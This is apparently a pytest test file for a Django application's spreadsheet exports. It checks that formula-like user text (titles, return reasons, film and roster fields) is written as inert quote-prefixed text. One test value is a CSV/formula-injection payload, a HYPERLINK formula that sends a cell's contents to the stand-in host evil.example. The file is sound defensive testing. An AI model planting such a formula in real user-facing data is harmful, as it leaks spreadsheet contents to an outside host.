"""User text written to a spreadsheet never becomes a formula (issue 11, part 2).

Each export family writes a value that Excel, WPS or LibreOffice would evaluate if it were stored
as typed, and the file is read back: the cell is a string cell holding exactly that text, with the
quote prefix, and the sheet's XML has no formula element at all. Numbers stay numbers."""

import datetime as dt
import io
import re
import zipfile

from django.urls import reverse
from openpyxl import load_workbook

from dianjiao.films import services as film_services
from dianjiao.infoitems import services as info_services
from dianjiao.lib.xlsx import write_table
from tests.factories import member
from tests.films.helpers import copy, film, loan
from tests.infoitems.helpers import send

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def cells_with(content: bytes, value):
    """Every cell of the first sheet holding `value`, read back with openpyxl."""
    ws = load_workbook(io.BytesIO(content)).active
    return [c for row in ws.iter_rows() for c in row if c.value == value]


def assert_text(content: bytes, value: str) -> None:
    """`value` is in the file, only as inert text: a string cell, quote-prefixed, no formula."""
    found = cells_with(content, value)
    assert found, f"{value!r} is not in the sheet"
    for cell in found:
        assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.data_type)
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert not any(re.search(rb"<f[ >]", z.read(n)) for n in sheets)


def test_write_table_keeps_every_formula_start_as_text_and_numbers_as_numbers():
    risky = ["=1+2", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", HYPERLINK]
    content = write_table(
        "t", ["文本", "数"], [[v, n] for v, n in zip(risky, (-5, 3.5, 0, 7, 1, 2, 3), strict=True)]
    )
    for v in risky:
        assert_text(content, v)
    ws = load_workbook(io.BytesIO(content)).active
    assert [ws.cell(row=r, column=2).data_type for r in range(2, 9)] == ["n"] * 7
    assert ws["B2"].value == -5
    plain = write_table("t", ["文本"], [["党员大会"], [dt.date(2026, 3, 1)]])
    ws = load_workbook(io.BytesIO(plain)).active
    assert ws["A2"].data_type == "s" and not ws["A2"].quotePrefix
    assert ws["A3"].is_date


def test_an_information_item_titled_as_a_formula_exports_as_text(world, login):
    send(world, title=HYPERLINK)
    response = login(world.station).get(reverse("infoitems:export"))
    assert response.status_code == 200
    assert_text(response.content, HYPERLINK)


def test_a_returned_items_reason_exports_as_text(world, login):
    item = send(world, title="红星村冬季电教")
    info_services.item_return(item=item, user=world.station, reason="-1+1 请补充照片")
    assert_text(login(world.station).get(reverse("infoitems:export")).content, "-1+1 请补充照片")


def test_the_film_catalogue_and_loans_export_formula_titles_as_text(world, login):
    loan(world, copy(world, film(world, "=1+2", producer="@SUM(A1:A9)")))
    client = login(world.station)
    catalogue = client.get(reverse("films:export")).content
    assert_text(catalogue, "=1+2")
    assert_text(catalogue, "@SUM(A1:A9)")
    assert_text(client.get(reverse("films:loan_export"), {"state": "all"}).content, "=1+2")
    film_services.film_create(user=world.station, title="榜样9", duration_minutes=45)
    ws = load_workbook(io.BytesIO(client.get(reverse("films:export")).content)).active
    durations = [c for c in ws["F"][1:]]
    assert all(c.data_type == "n" for c in durations)  # numbers stay numbers


def test_the_roster_export_keeps_names_and_phones_as_text(world, login):
    member(world.village, "=HYPERLINK(1)", world.point, phone="+8613800000000")
    content = login(world.station).get(reverse("members:export")).content
    assert_text(content, "=HYPERLINK(1)")
    assert_text(content, "+8613800000000")
